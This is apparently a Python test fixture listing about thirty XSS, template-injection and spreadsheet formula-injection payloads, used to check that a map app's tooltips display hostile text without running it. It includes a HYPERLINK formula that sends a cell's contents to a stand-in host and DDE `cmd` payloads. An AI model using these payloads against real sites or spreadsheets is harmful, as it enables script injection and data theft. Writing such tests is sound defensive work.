"""Hostile caller text: HTML/JS injection, template and markdown tricks, spreadsheet formulas.

Every payload that could run script sets the sentinel `top.__pwned` (or opens a dialog), so a
test can tell "shown as text" from "executed" in the page and inside the map iframes. All are
shorter than the map tooltip's kondisi limit (140 characters), so each must show whole.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    "<script>top.__pwned=1</script>",
    '<img src=x onerror="top.__pwned=1">',
    "<IMG SRC=x OnErRoR=top.__pwned=1>",
    "<svg onload=top.__pwned=1>",
    "<svg><script>top.__pwned=1</script></svg>",
    '"><iframe src="javascript:top.__pwned=1"></iframe>',
    "'><body onload=top.__pwned=1>",
    "' onmouseover='top.__pwned=1' x='",
    '<a href="javascript:top.__pwned=1">klik di sini</a>',
    "javascript:top.__pwned=1",
    "[klik](javascript:top.__pwned=1)",
    '![foto](x" onerror="top.__pwned=1)',
    "{{7*7}} {{constructor.constructor('top.__pwned=1')()}}",
    "${top.__pwned=1} #{7*7} <%= 7*7 %>",
    '<div style="background:url(javascript:top.__pwned=1)">banjir</div>',
    '<div style="width:expression(top.__pwned=1)">rob</div>',
    "\\u003cimg src=x onerror=top.__pwned=1\\u003e",
    "&lt;img src=x onerror=top.__pwned=1&gt;",
    "<details open ontoggle=top.__pwned=1>",
    "<input autofocus onfocus=top.__pwned=1>",
    "</script><script>top.__pwned=1</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=top.__pwned=1>",
    '<object data="javascript:top.__pwned=1"></object>',
    "<<script>script>top.__pwned=1<</script>/script>",
    "<img src=x onerror=alert('XSS')>",
    "<style>@import 'javascript:top.__pwned=1';</style>",
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
